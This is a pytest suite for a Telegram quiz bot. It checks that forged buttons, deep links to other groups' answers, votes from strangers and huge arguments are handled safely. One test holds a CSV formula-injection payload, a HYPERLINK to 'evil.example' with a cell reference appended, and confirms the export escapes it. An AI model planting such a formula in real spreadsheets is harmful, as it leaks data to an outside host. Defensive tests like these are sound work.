"""Hostile and odd input from chats: forged buttons, strangers' votes, huge arguments.

Each test drives the real Application through the test Bot API server and checks what
people see, what the database holds, and that nothing reached the error handler.
"""

from __future__ import annotations

import logging

import pytest

from tests.telegram.conftest import (
    ADMIN,
    ALICE,
    BOB,
    CAROL,
    Harness,
    buttons_of,
    message_id_of,
    text_of,
)
from tests.telegram.test_groups import ask
from tests.telegram.test_progress import csv_rows, group_round, run

EXPIRED = "This button no longer works."


@pytest.fixture
def errors(caplog: pytest.LogCaptureFixture) -> pytest.LogCaptureFixture:
    caplog.set_level(logging.INFO)
    return caplog


def error_records(caplog: pytest.LogCaptureFixture) -> list[logging.LogRecord]:
    return [r for r in caplog.records if r.levelno >= logging.ERROR or r.exc_info]


async def test_a_forged_answer_by_dm_button_cannot_reveal_another_chats_question(
    bot: Harness, group: int, errors: pytest.LogCaptureFixture
) -> None:
    other = bot.server.add_chat("group", title="Other", members={ADMIN: "creator", BOB: "member"})
    other_id = int(other["id"])
    await ask(bot, group)  # delivery 1, in `group`
    question = await bot.command(other_id, "quiz", "latency", from_user=BOB)  # delivery 2
    assert buttons_of(question) == [("🤫 Answer by DM", "v1:dm:2")]

    mark = bot.server.mark()
    bot.server.inject_callback_query(other_id, message_id_of(question), "v1:dm:1", from_user=BOB)
    answered = await bot.call("answerCallbackQuery", since=mark)
    await bot.idle()

    assert answered.params["text"] == "That question is no longer available."
    assert bot.sends_since(mark, BOB) == []
    assert bot.rows("SELECT * FROM peeks") == []
    assert error_records(errors) == []


async def test_a_deep_link_to_another_groups_answer_is_refused(
    bot: Harness, group: int, errors: pytest.LogCaptureFixture
) -> None:
    await ask(bot, group)  # delivery 1; Carol is not in `group`
    reply = await bot.command(CAROL, "start", "answer-1")
    await bot.idle()
    assert "Model answer" not in text_of(reply)
    texts = [text_of(call) for call in bot.sends_since(0, CAROL)]
    assert not any("Model answer" in text for text in texts)
    assert error_records(errors) == []


async def test_a_quiz_poll_vote_from_a_non_member_does_not_score(
    bot: Harness, group: int, errors: pytest.LogCaptureFixture
) -> None:
    poll = await bot.command(group, "quiz", "formats", method="sendPoll", from_user=ALICE)
    poll_id = poll.result["poll"]["id"]

    bot.server.inject_poll_answer(poll_id, [1], from_user=ALICE)  # a member
    bot.server.inject_poll_answer(poll_id, [1], from_user=CAROL)  # never in the group
    await bot.idle()

    assert [r["user_external_id"] for r in bot.attempts()] == [ALICE]
    board = await bot.command(group, "leaderboard", from_user=ALICE)
    assert "Carol" not in text_of(board)
    assert error_records(errors) == []


@pytest.mark.parametrize("data", ["", None, "some_data"])
async def test_buttons_without_our_data_get_a_polite_answer(
    bot: Harness, data: str | None, errors: pytest.LogCaptureFixture
) -> None:
    question = await bot.command(ALICE, "quiz", "latency")
    feedback = await bot.say(ALICE, "The mean hides outliers, and p99 shows the tail.")
    for message in (question, feedback):
        mark = bot.server.mark()
        bot.server.inject_callback_query(ALICE, message_id_of(message), data, from_user=ALICE)
        answered = await bot.call("answerCallbackQuery", since=mark)
        await bot.idle()
        assert answered.params.get("text") == EXPIRED
        assert bot.sends_since(mark, ALICE) == []  # no "Something went wrong"
    assert error_records(errors) == []


async def test_a_huge_timezone_gets_a_short_clear_reply(
    bot: Harness, errors: pytest.LogCaptureFixture
) -> None:
    huge = "Europe/" + "x" * 5000
    reply = await bot.command(ALICE, "timezone", huge)

    assert "timezone" in text_of(reply).lower()
    assert len(text_of(reply)) < 400
    assert "x" * 100 not in text_of(reply)
    assert {row["timezone"] for row in bot.rows("SELECT timezone FROM chats")} <= {"UTC"}
    assert error_records(errors) == []
    assert all("x" * 100 not in record.getMessage() for record in errors.records)


async def test_a_formula_in_a_group_title_is_text_in_the_csv_export(bot: Harness) -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    chat = bot.server.add_chat("group", title=title, members={ADMIN: "creator", ALICE: "member"})
    await group_round(bot, int(chat["id"]), {ALICE: "-1 mean hides outliers"})

    (document,) = await run(bot, ALICE, "export")

    (row,) = csv_rows(document)[1:]
    assert row[-1] == "'" + title
    assert row[6] == "'-1 mean hides outliers"


@pytest.mark.parametrize(("command", "args"), [("time", "9" * 5000), ("quiz", "nosuch" * 900)])
async def test_huge_arguments_get_short_replies(
    bot: Harness, command: str, args: str, errors: pytest.LogCaptureFixture
) -> None:
    reply = await bot.command(ALICE, command, args)

    assert len(text_of(reply)) < 600
    assert args[:200] not in text_of(reply)
    assert error_records(errors) == []
